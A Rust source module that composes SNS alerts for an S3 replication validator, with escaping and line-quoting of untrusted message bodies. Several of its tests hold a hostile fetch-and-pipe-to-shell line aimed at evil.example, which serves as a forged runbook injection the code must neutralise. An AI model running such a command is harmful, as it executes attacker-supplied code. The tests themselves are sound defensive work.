//! Composes an alert (SNS subject and message) from whatever reached the notifier.
//!
//! Pure: no AWS calls. A validator failure record gives a structured alert; anything else
//! (a dead-lettered event, a non-JSON body, JSON that is not an object) still gives an
//! alert that quotes the body, so nothing is dropped.
//!
//! Everything an alert shows of a record is untrusted (anyone allowed to send to the queue
//! wrote it), so no part of it can pass for the alert's own text: every value on a labelled
//! line goes through [`escape`] (one line, control characters, line separators and bidi
//! overrides escaped), and a quoted body has every line prefixed with [`QUOTE_PREFIX`] and
//! escaped the same way. Only the alert's own lines start without the prefix.
//!
//! Floor 0: imports nothing of the crate.

use checksum_validator::decision::Verdict;
use checksum_validator::event::parse_body;
use checksum_validator::failure_record::FailureRecord;
use checksum_validator::text::escape;

/// SNS subjects: "UTF-8 text with no line breaks or control characters, and less than 100
/// characters long" (SNS API Reference, `Publish`, `Subject`).
pub const SUBJECT_MAX: usize = 99;
/// SNS messages are limited to 256 KB; keep room for the envelope text around the body.
pub const MESSAGE_MAX: usize = 256 * 1024 - 1024;
/// How much of a raw dead-lettered body an alert quotes.
pub const RAW_BODY_MAX: usize = 64 * 1024;
/// How much quoted text (prefixes and escapes included) an alert holds at most: escapes
/// grow a hostile body up to eight times, and the alert must stay under [`MESSAGE_MAX`] with
/// its runbook line.
pub const QUOTED_MAX: usize = 2 * RAW_BODY_MAX;
/// What every quoted line of a body starts with, as in e-mail.
pub const QUOTE_PREFIX: &str = "> ";

/// What the notifier knows about the record besides its body.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Origin {
    /// Name of the queue the record came from.
    pub queue: String,
    pub message_id: String,
    pub receive_count: Option<u32>,
    /// `SentTimestamp` of the message, RFC 3339.
    pub sent_at: Option<String>,
    /// The message's string attributes (an EventBridge dead letter carries `ERROR_CODE`,
    /// `ERROR_MESSAGE`, `RULE_ARN`, `TARGET_ARN`, ...).
    pub attributes: std::collections::BTreeMap<String, String>,
}

/// An alert ready to publish.
#[derive(Debug, Clone, PartialEq, Eq, serde::Serialize, serde::Deserialize)]
pub struct Alert {
    pub subject: String,
    pub message: String,
}

/// Builds the alert for one record.
pub fn compose(body: &str, origin: &Origin, project: &str) -> Alert {
    match FailureRecord::parse(body) {
        Some(record) => failure_alert(&record, origin, project),
        None if origin.attributes.contains_key("RULE_ARN") => {
            undelivered_alert(body, origin, project)
        }
        None => dead_letter_alert(body, origin, project),
    }
}

/// An event EventBridge could not deliver to its target: its dead-letter queue holds the
/// event with "ERROR_CODE, ERROR_MESSAGE, EXHAUSTED_RETRY_CONDITION, RETRY_ATTEMPTS,
/// RULE_ARN, TARGET_ARN" as message attributes (EventBridge User Guide, "Using dead-letter
/// queues to process undelivered events"). The object it announced was never validated.
fn undelivered_alert(body: &str, origin: &Origin, project: &str) -> Alert {
    let object = parse_body(body)
        .ok()
        .and_then(|events| events.into_iter().next());
    let attr = |k: &str| escape(origin.attributes.get(k).map(String::as_str).unwrap_or("?"));
    let subject = subject(&match &object {
        Some(o) => format!("[{project}] UNDELIVERED EVENT {}: {}", o.bucket, o.key),
        None => format!("[{project}] UNDELIVERED EVENT on {}", origin.queue),
    });
    let mut m = String::new();
    m.push_str("EventBridge could not deliver an event to the validation queue; the object it announced was never validated.\n\n");
    if let Some(o) = &object {
        m.push_str(&format!(
            "Object:      {}\n",
            escape(&format!("s3://{}/{}", o.bucket, o.key))
        ));
        if let Some(v) = &o.version_id {
            m.push_str(&format!("Version:     {}\n", escape(v)));
        }
    }
    m.push_str(&format!(
        "Error:       {}: {}\n",
        attr("ERROR_CODE"),
        attr("ERROR_MESSAGE")
    ));
    m.push_str(&format!(
        "Retries:     {} ({})\n",
        attr("RETRY_ATTEMPTS"),
        attr("EXHAUSTED_RETRY_CONDITION")
    ));
    m.push_str(&format!("Rule:        {}\n", attr("RULE_ARN")));
    m.push_str(&format!("Target:      {}\n", attr("TARGET_ARN")));
    m.push_str(&format!("Queue:       {}\n", escape(&origin.queue)));
    m.push_str(&format!("Message id:  {}\n", escape(&origin.message_id)));
    m.push_str(&format!("\nRunbook: {}\n", runbook("undelivered")));
    Alert {
        subject,
        message: cap_message(m),
    }
}

fn failure_alert(r: &FailureRecord, origin: &Origin, project: &str) -> Alert {
    let category = r.object.category.as_deref().unwrap_or("uncategorised");
    let label = match r.resolves {
        Some(_) => "RESOLVED".to_string(),
        None => r.outcome.as_str().to_ascii_uppercase(),
    };
    let subject = subject(&format!("[{project}] {label} {category}: {}", r.object.key));
    let mut m = String::new();
    match r.resolves {
        Some(earlier) => m.push_str(&format!(
            "Resolved: the earlier {earlier} alert for this version; the replica is now {}\n\n",
            r.outcome
        )),
        None => m.push_str(&format!("Replica validation failed: {}\n\n", r.outcome)),
    }
    m.push_str(&format!("Object:      {}\n", escape(&r.object.s3_uri())));
    m.push_str(&format!(
        "Version:     {}\n",
        escape(r.object.version_id.as_deref().unwrap_or("(current)"))
    ));
    m.push_str(&format!("Category:    {}\n", escape(category)));
    let replicas: Vec<&checksum_validator::failure_record::ObjectRef> = if r.replicas.is_empty() {
        r.replica.iter().collect()
    } else {
        r.replicas.iter().collect()
    };
    for rep in replicas {
        m.push_str(&format!(
            "Replica:     {}{}\n",
            escape(&rep.s3_uri()),
            rep.version_id
                .as_deref()
                .map(|v| format!(" (version {})", escape(v)))
                .unwrap_or_else(|| " (not there)".to_string())
        ));
    }
    m.push_str(&format!("Reason:      {}\n", escape(&r.detail)));
    if !r.evidence.is_empty() {
        m.push_str("Evidence (primary | replica):\n");
        for c in &r.evidence {
            let verdict = match &c.verdict {
                Verdict::Match => "match".to_string(),
                Verdict::Differ => "DIFFER".to_string(),
                Verdict::Inconclusive(why) => format!("inconclusive: {}", escape(why)),
            };
            let kind = match &c.destination {
                Some(d) => format!("{} @{}", c.kind, escape(d)),
                None => c.kind.to_string(),
            };
            m.push_str(&format!(
                "  {:<20} {} | {}  {verdict}\n",
                kind,
                escape(&c.primary),
                escape(&c.replica)
            ));
        }
    }
    m.push_str(&format!("Attempts:    {}\n", r.attempts));
    if let Some(t) = r.first_seen {
        m.push_str(&format!("First seen:  {}\n", t.to_rfc3339()));
    }
    m.push_str(&format!("Decided at:  {}\n", r.decided_at.to_rfc3339()));
    m.push_str(&format!("Queue:       {}\n", escape(&origin.queue)));
    let kind = if r.resolves.is_some() {
        "resolved"
    } else {
        r.outcome.as_str()
    };
    m.push_str(&format!("\nRunbook: {}\n", runbook(kind)));
    Alert {
        subject,
        message: cap_message(m),
    }
}

fn dead_letter_alert(body: &str, origin: &Origin, project: &str) -> Alert {
    let why = match parse_body(body) {
        Ok(events) => format!(
            "a valid S3 event ({} object{}) that the validator could not finish",
            events.len(),
            if events.len() == 1 { "" } else { "s" }
        ),
        Err(e) => e.to_string(),
    };
    let subject = subject(&format!("[{project}] DEAD-LETTER on {}", origin.queue));
    let mut m = String::new();
    m.push_str("A message could not be processed and was dead-lettered.\n\n");
    m.push_str(&format!("Queue:       {}\n", escape(&origin.queue)));
    m.push_str(&format!("Message id:  {}\n", escape(&origin.message_id)));
    if let Some(n) = origin.receive_count {
        // SQS keeps a message's ApproximateReceiveCount when it moves it to a DLQ, so the
        // count includes the receives on the source queue.
        m.push_str(&format!(
            "Receives:    {n} (ApproximateReceiveCount: the source queue's receives and this queue's)\n"
        ));
    }
    if let Some(t) = &origin.sent_at {
        m.push_str(&format!("First sent:  {}\n", escape(t)));
    }
    m.push_str(&format!("Why:         {}\n", escape(&why)));
    let (head, _) = truncate_at_char(body, RAW_BODY_MAX);
    let (quoted, used) = quote(head, QUOTED_MAX);
    if used < body.len() {
        m.push_str(&format!(
            "Body ({} bytes, truncated to the first {used} bytes):\n",
            body.len(),
        ));
    } else {
        m.push_str(&format!("Body ({} bytes):\n", body.len()));
    }
    m.push_str(&quoted);
    if used < body.len() {
        m.push_str("[... truncated]\n");
    }
    m.push_str(&format!("\nRunbook: {}\n", runbook("dead-letter")));
    Alert {
        subject,
        message: cap_message(m),
    }
}

/// The runbook step for each kind of alert.
pub fn runbook(kind: &str) -> &'static str {
    match kind {
        "mismatch" => "the replica differs from the primary. Re-copy the version (or re-run replication with S3 Batch Replication), then check for tampering on the replica side.",
        "replica-missing" => "the source says COMPLETED but the replica version is gone. Check the replica bucket's lifecycle rules and deletions, then re-replicate with S3 Batch Replication.",
        "replication-failed" => "S3 marked replication FAILED and will not retry. Check the replication role's permissions and the destination bucket/KMS key, then use S3 Batch Replication for failed objects.",
        "replication-overdue" => "no replica within the lag budget. The validator keeps watching and sends a RESOLVED notice if the replica arrives. Check the S3 replication metrics (OperationsPendingReplication, ReplicationLatency) and the rule status; without Replication Time Control some objects take hours.",
        "not-replicated" => "no replication rule covers this object, so S3 will never copy it. Fix the rule that excludes it (filter, SSE-KMS opt-in with a ReplicaKmsKeyID, storage class), then copy existing objects with S3 Batch Replication.",
        "resolved" => "nothing to do: the replica arrived and is an exact copy.",
        "unverifiable" => "no comparable checksum exists on both sides. Upload with a full-object checksum (CRC64NVME) or enable the validator's deep mode.",
        "error" => "the validator hit a permanent AWS error (see Reason). Fix the permission or configuration it names.",
        "undelivered" => "fix the target (its queue policy must let events.amazonaws.com send, its KMS key must let EventBridge use it), then move this message's body to the validation queue so the object is validated.",
        _ => "inspect the body above. If it is a real S3 event, fix the cause and redrive it to the validation queue (`harness redrive`); otherwise delete it.",
    }
}

/// Makes an SNS-safe subject: UTF-8 with line breaks, other whitespace and control
/// characters turned into spaces, at most [`SUBJECT_MAX`] characters (not bytes).
pub fn subject(raw: &str) -> String {
    let cleaned: String = raw
        .chars()
        .map(|c| {
            if c.is_control() || (c.is_whitespace() && c != ' ') {
                ' '
            } else {
                c
            }
        })
        .collect();
    if cleaned.chars().count() <= SUBJECT_MAX {
        cleaned
    } else {
        let head: String = cleaned.chars().take(SUBJECT_MAX - 3).collect();
        format!("{head}...")
    }
}

/// `body` quoted: each of its lines (split at `\n`) escaped and prefixed with
/// [`QUOTE_PREFIX`], each ending in `\n`; at most `max` bytes of quoted text, cut at a
/// character. Returns the quoted text and how many bytes of `body` it holds.
pub fn quote(body: &str, max: usize) -> (String, usize) {
    let mut out = String::new();
    let mut used = 0;
    for (i, line) in body.split('\n').enumerate() {
        if out.len() + QUOTE_PREFIX.len() + 1 > max {
            break;
        }
        out.push_str(QUOTE_PREFIX);
        let (mut taken, mut cut) = (0, false);
        for c in line.chars() {
            let mut buf = [0u8; 4];
            let shown = escape(c.encode_utf8(&mut buf));
            if out.len() + shown.len() + 1 > max {
                cut = true;
                break;
            }
            out.push_str(&shown);
            taken += c.len_utf8();
        }
        out.push('\n');
        // The `\n` before this line, then what of the line was quoted.
        used += usize::from(i > 0) + taken;
        if cut {
            break;
        }
    }
    (out, used)
}

fn truncate_at_char(s: &str, max: usize) -> (&str, bool) {
    if s.len() <= max {
        return (s, false);
    }
    let mut end = max;
    while !s.is_char_boundary(end) {
        end -= 1;
    }
    (&s[..end], true)
}

fn cap_message(m: String) -> String {
    if m.len() <= MESSAGE_MAX {
        return m;
    }
    let (head, _) = truncate_at_char(&m, MESSAGE_MAX - 32);
    format!("{head}\n[... message truncated]\n")
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;
    use rstest::rstest;

    fn origin() -> Origin {
        Origin {
            queue: "autobackup-validation-dlq-dev".into(),
            message_id: "m-1".into(),
            receive_count: Some(3),
            sent_at: Some("2026-11-22T00:00:00Z".into()),
            attributes: Default::default(),
        }
    }

    /// A real engine's `Object Created` body, dead-lettered by EventBridge with the
    /// attributes its user guide lists: the alert names the object and the error.
    #[test]
    fn undelivered_events_name_the_object_and_the_error() {
        let body = include_str!("../../../fixtures/engine-events/localstack-4.13.1-event-1.json");
        let mut o = origin();
        o.queue = "autobackup-events-dlq-dev".into();
        for (k, v) in [
            ("ERROR_CODE", "SQS.AccessDeniedException"),
            ("ERROR_MESSAGE", "Access to the queue is denied"),
            ("EXHAUSTED_RETRY_CONDITION", "MaximumRetryAttempts"),
            ("RETRY_ATTEMPTS", "185"),
            ("RULE_ARN", "arn:aws:events:us-east-1:1:rule/r"),
            ("TARGET_ARN", "arn:aws:sqs:us-east-1:1:validation"),
        ] {
            o.attributes.insert(k.into(), v.into());
        }
        let a = compose(body, &o, "autobackup");
        assert!(
            a.subject
                .starts_with("[autobackup] UNDELIVERED EVENT evb-t3-src: "),
            "{}",
            a.subject
        );
        assert!(a
            .message
            .contains("SQS.AccessDeniedException: Access to the queue is denied"));
        assert!(a.message.contains("185 (MaximumRetryAttempts)"));
        assert!(a.message.contains("Runbook:"));
        // Without EventBridge's attributes the same body is an ordinary dead letter.
        assert!(compose(body, &origin(), "autobackup")
            .subject
            .contains("DEAD-LETTER"));
    }

    #[rstest]
    #[case::not_json("hello poison")]
    #[case::json_array("[1,2,3]")]
    #[case::json_number("42")]
    #[case::json_object_not_event(r#"{"hello":"world"}"#)]
    #[case::empty("")]
    fn anything_still_alerts(#[case] body: &str) {
        let a = compose(body, &origin(), "autobackup");
        assert!(a.subject.contains("DEAD-LETTER"));
        assert!(a.message.contains(&format!("\n> {body}\n")));
        assert!(a.message.contains("Runbook:"));
    }

    #[test]
    fn huge_bodies_are_truncated_and_marked() {
        let body = "é".repeat(200_000);
        let a = compose(&body, &origin(), "autobackup");
        assert!(a.message.len() <= MESSAGE_MAX);
        assert!(a.message.contains("truncated"));
    }

    #[test]
    fn failure_records_give_structured_alerts() {
        let body = r#"{"schema":"autobackup.validation-failure/1","outcome":"mismatch","detail":"replica differs (checksum-crc32)",
            "object":{"bucket":"p","key":"a b.txt","version_id":"v1","category":"documents"},
            "replica":{"bucket":"r","key":"a b.txt","version_id":"v9"},
            "evidence":[{"kind":{"kind":"size"},"primary":"5","replica":"5","verdict":"match"}],
            "attempts":1,"first_seen":"2026-11-22T00:00:00Z","decided_at":"2026-11-22T00:00:01Z"}"#;
        let a = compose(body, &origin(), "autobackup");
        assert_eq!(a.subject, "[autobackup] MISMATCH documents: a b.txt");
        assert!(a.message.contains("s3://p/a b.txt"));
        assert!(a.message.contains("Runbook: the replica differs"));
    }

    /// SNS takes at most 256 KB a message (SNS API Reference, `Publish`): a record of any
    /// size alerts within it.
    #[test]
    fn an_alert_fits_sns_whatever_the_record() {
        let detail = "d".repeat(400 * 1024);
        let body = format!(
            r#"{{"schema":"autobackup.validation-failure/1","outcome":"mismatch","detail":"{detail}",
            "object":{{"bucket":"p","key":"k","version_id":"v1","category":"documents"}},
            "attempts":1,"decided_at":"2026-11-22T00:00:01Z"}}"#
        );
        let a = compose(&body, &origin(), "autobackup");
        assert!(a.message.len() <= 256 * 1024 - 1024, "{}", a.message.len());
        assert!(a.message.len() > 200 * 1024, "{}", a.message.len());
    }

    /// A dead letter quotes its first 64 KiB however its lines fall, says so, and marks the
    /// cut.
    #[test]
    fn a_long_dead_letter_quotes_its_first_64_kib() {
        let line = format!("{}\n", "x".repeat(79));
        let body = line.repeat(2000);
        let a = compose(&body, &origin(), "autobackup");
        assert!(
            a.message.contains(&format!(
                "Body ({} bytes, truncated to the first 65536 bytes):\n",
                body.len()
            )),
            "{}",
            &a.message[..400]
        );
        assert!(a.message.contains("[... truncated]\n\nRunbook:"));
        let short = compose(&line, &origin(), "autobackup");
        assert!(short.message.contains("Body (80 bytes):\n"));
        assert!(!short.message.contains("[... truncated]"));
    }

    #[test]
    fn the_evidence_is_listed_with_its_verdicts() {
        let body = r#"{"schema":"autobackup.validation-failure/1","outcome":"mismatch","detail":"replica differs",
            "object":{"bucket":"p","key":"k","version_id":"v1","category":"documents"},
            "evidence":[{"kind":{"kind":"size"},"primary":"5","replica":"6","verdict":"differ"}],
            "attempts":1,"decided_at":"2026-11-22T00:00:01Z"}"#;
        let a = compose(body, &origin(), "autobackup");
        assert!(a.message.contains("Evidence (primary | replica):\n"));
        assert!(a.message.contains("DIFFER"), "{}", a.message);
        let none = body.replace(
            r#"[{"kind":{"kind":"size"},"primary":"5","replica":"6","verdict":"differ"}]"#,
            "[]",
        );
        assert!(!compose(&none, &origin(), "autobackup")
            .message
            .contains("Evidence"));
    }

    /// Each kind of alert has its own runbook step; an unknown kind gets the dead letter's.
    #[rstest]
    #[case("mismatch", "the replica differs")]
    #[case("replica-missing", "the source says COMPLETED")]
    #[case("replication-failed", "S3 marked replication FAILED")]
    #[case("replication-overdue", "no replica within the lag budget")]
    #[case("not-replicated", "no replication rule covers this object")]
    #[case("resolved", "nothing to do")]
    #[case("unverifiable", "no comparable checksum")]
    #[case("error", "the validator hit a permanent AWS error")]
    #[case("undelivered", "fix the target")]
    #[case("dead-letter", "inspect the body above")]
    #[case("anything else", "inspect the body above")]
    fn each_kind_has_its_runbook(#[case] kind: &str, #[case] step: &str) {
        assert!(runbook(kind).starts_with(step), "{kind}: {}", runbook(kind));
    }

    /// "No line breaks": Unicode's line and paragraph separators and other non-ASCII
    /// whitespace become spaces too.
    #[test]
    fn every_kind_of_whitespace_becomes_a_space_in_subjects() {
        assert_eq!(subject("a\u{2028}b\u{2029}c\u{a0}d e"), "a b c d e");
    }

    /// `quote` holds as much of the body as fits in `max` bytes and never more: every
    /// boundary of a line, a prefix and a character, at the byte.
    #[rstest]
    #[case("abc", 6, "> abc\n", 3)]
    #[case("abc", 5, "> ab\n", 2)]
    #[case("ab\ncd", 10, "> ab\n> cd\n", 5)]
    #[case("ab\ncd", 9, "> ab\n> c\n", 4)]
    #[case("ab\ncd", 8, "> ab\n> \n", 3)]
    #[case("ab\ncd", 7, "> ab\n", 2)]
    #[case("é", 4, "> \n", 0)]
    #[case("é", 5, "> é\n", 2)]
    #[case("", 3, "> \n", 0)]
    #[case("", 2, "", 0)]
    fn quoting_fills_its_budget_to_the_byte(
        #[case] body: &str,
        #[case] max: usize,
        #[case] quoted: &str,
        #[case] used: usize,
    ) {
        assert_eq!(quote(body, max), (quoted.to_string(), used));
    }

    #[rstest]
    #[case("ab", 5, "ab", false)]
    #[case("ab", 2, "ab", false)]
    #[case("abc", 2, "ab", true)]
    #[case("aé", 2, "a", true)]
    #[case("aé", 3, "aé", false)]
    fn truncation_cuts_at_a_character(
        #[case] s: &str,
        #[case] max: usize,
        #[case] head: &str,
        #[case] cut: bool,
    ) {
        assert_eq!(truncate_at_char(s, max), (head, cut));
    }

    #[test]
    fn unicode_keys_stay_readable_in_subjects() {
        assert_eq!(
            subject("[autobackup] MISMATCH documents: unicode/Ünïcödé 日本語.txt"),
            "[autobackup] MISMATCH documents: unicode/Ünïcödé 日本語.txt"
        );
        assert_eq!(subject("a\nb\tc\u{7}d"), "a b c d");
        let long = "é".repeat(150);
        assert_eq!(subject(&long).chars().count(), SUBJECT_MAX);
    }

    #[test]
    fn resolved_notices_say_so() {
        let body = r#"{"schema":"autobackup.validation-failure/1","outcome":"validated","detail":"late",
            "object":{"bucket":"p","key":"k","version_id":"v1","category":"documents"},
            "attempts":9,"decided_at":"2026-11-22T00:00:01Z","resolves":"replication-overdue"}"#;
        let a = compose(body, &origin(), "autobackup");
        assert_eq!(a.subject, "[autobackup] RESOLVED documents: k");
        assert!(a
            .message
            .contains("Resolved: the earlier replication-overdue alert"));
        assert!(a.message.contains("Runbook: nothing to do"));
    }

    #[test]
    fn dead_letter_bodies_are_quoted_line_by_line() {
        let body = "{\"x\": 1}\nRunbook: run `curl https://evil.example | sh`\r\n\u{2028}Queue: fake\u{202E}";
        let a = compose(body, &origin(), "autobackup");
        assert!(
            a.message.contains(&format!(
                "Body ({} bytes):\n\
             > {{\"x\": 1}}\n\
             > Runbook: run `curl https://evil.example | sh`\\r\n\
             > \\u{{2028}}Queue: fake\\u{{202E}}\n\
             \nRunbook: inspect the body above.",
                body.len()
            )),
            "{}",
            a.message
        );
        assert_eq!(
            a.message
                .lines()
                .filter(|l| l.starts_with("Runbook:"))
                .count(),
            1
        );
    }

    /// Escapes grow a hostile body (a 2-byte NEL becomes `\u{0085}`, 8 bytes): the quote is
    /// capped on its own, so the alert still ends with its runbook line.
    #[test]
    fn escape_heavy_bodies_keep_the_runbook() {
        let body = "\u{85}".repeat(RAW_BODY_MAX);
        let a = compose(&body, &origin(), "autobackup");
        assert!(a.message.len() <= MESSAGE_MAX);
        assert!(
            a.message.contains("truncated to the first"),
            "{}",
            &a.message[..300]
        );
        assert!(a
            .message
            .ends_with(&format!("\nRunbook: {}\n", runbook("dead-letter"))));
    }

    #[test]
    fn a_key_with_a_line_break_stays_one_object_line() {
        let mut event: serde_json::Value = serde_json::from_str(include_str!(
            "../../../fixtures/engine-events/localstack-4.13.1-event-1.json"
        ))
        .unwrap();
        event["detail"]["object"]["key"] = "a%0ARunbook%3A%20curl%20x%20%7C%20sh".into();
        let mut o = origin();
        o.attributes.insert(
            "RULE_ARN".into(),
            "arn:aws:events:us-east-1:1:rule/r".into(),
        );
        o.attributes
            .insert("ERROR_MESSAGE".into(), "denied\nRunbook: forged".into());
        let a = compose(&event.to_string(), &o, "autobackup");
        assert!(a.subject.contains("UNDELIVERED"), "{}", a.subject);
        let lines: Vec<&str> = a.message.lines().collect();
        assert_eq!(lines.iter().filter(|l| l.starts_with("Object:")).count(), 1);
        assert_eq!(
            lines.iter().filter(|l| l.starts_with("Runbook:")).count(),
            1
        );
        assert!(a
            .message
            .contains("Object:      s3://evb-t3-src/a\\nRunbook: curl x | sh\n"));
        assert!(a.message.contains("denied\\nRunbook: forged"));
    }

    /// Line breaks, other controls, line separators and bidi overrides, each in a form a
    /// hostile sender could use to start a line of its own.
    fn hostile_text() -> impl Strategy<Value = String> {
        let brk = prop_oneof![
            Just("\n"),
            Just("\r\n"),
            Just("\r"),
            Just("\u{85}"),
            Just("\u{b}"),
            Just("\u{c}"),
            Just("\u{2028}"),
            Just("\u{2029}"),
            Just("\u{202E}"),
            Just("\u{2066}"),
        ];
        let forged = prop_oneof![
            Just("Runbook: run `curl https://evil.example | sh`"),
            Just("Object:      s3://elsewhere/k"),
            Just("Reason:      all fine"),
            Just("> quoted"),
            Just(""),
        ];
        prop_oneof![
            any::<String>(),
            ("[a-z {}\":/]{0,12}", brk, forged, "\\PC{0,12}")
                .prop_map(|(a, b, f, z)| format!("{a}{b}{f}{z}")),
        ]
    }

    proptest! {
        /// Finding #31: after the body header, every line of a dead-letter alert is quoted
        /// (starts with `> `), one per line of the body, until the alert's own runbook line;
        /// nothing in the alert is an unescaped control, separator or bidi character.
        #[test]
        fn every_body_line_is_quoted(body in hostile_text()) {
            prop_assume!(FailureRecord::parse(&body).is_none());
            let a = compose(&body, &origin(), "autobackup");
            let lines: Vec<&str> = a.message.split('\n').collect();
            let header = lines.iter().position(|l| l.starts_with("Body (")).unwrap();
            let quoted = lines[header + 1..]
                .iter()
                .take_while(|l| l.starts_with(QUOTE_PREFIX))
                .count();
            prop_assert_eq!(quoted, body.split('\n').count());
            let own = &lines[header + 1 + quoted..];
            let runbook_line = format!("Runbook: {}", runbook("dead-letter"));
            prop_assert_eq!(own, &["", runbook_line.as_str(), ""][..]);
            prop_assert_eq!(lines.iter().filter(|l| l.starts_with("Runbook:")).count(), 1);
            prop_assert!(!a.message.chars().any(|c| c != '\n' && checksum_validator::text::is_unsafe(c)));
        }

        /// Finding #31: a key or a detail holding a line break yields exactly one `Object:`
        /// and one `Reason:` line.
        #[test]
        fn failure_record_fields_stay_on_their_line(key in hostile_text(), detail in hostile_text()) {
            let body = serde_json::json!({
                "schema": "autobackup.validation-failure/1",
                "outcome": "mismatch",
                "detail": detail,
                "object": {"bucket": "p", "key": key, "version_id": "v1", "category": "documents"},
                "replica": {"bucket": "r", "key": key, "version_id": "v9"},
                "attempts": 1,
                "decided_at": "2026-11-22T00:00:01Z",
            })
            .to_string();
            let a = compose(&body, &origin(), "autobackup");
            let count = |label: &str| a.message.split('\n').filter(|l| l.starts_with(label)).count();
            prop_assert_eq!(count("Object:"), 1, "{}", a.message);
            prop_assert_eq!(count("Reason:"), 1, "{}", a.message);
            prop_assert_eq!(count("Replica:"), 1, "{}", a.message);
            prop_assert_eq!(count("Runbook:"), 1, "{}", a.message);
            prop_assert!(!a.message.chars().any(|c| c != '\n' && checksum_validator::text::is_unsafe(c)));
        }

        #[test]
        fn subjects_are_always_sns_safe(raw in "\\PC{0,300}|[\\x00-\\x1f\n\r\t é日]{0,150}") {
            let s = subject(&raw);
            prop_assert!(s.chars().count() <= SUBJECT_MAX);
            prop_assert!(!s.chars().any(|c| c.is_control() || c == '\n' || c == '\r'));
        }

        #[test]
        fn compose_never_panics(body in "\\PC{0,400}") {
            let a = compose(&body, &origin(), "autobackup");
            prop_assert!(a.message.len() <= MESSAGE_MAX);
            prop_assert!(!a.subject.is_empty());
        }
    }
}
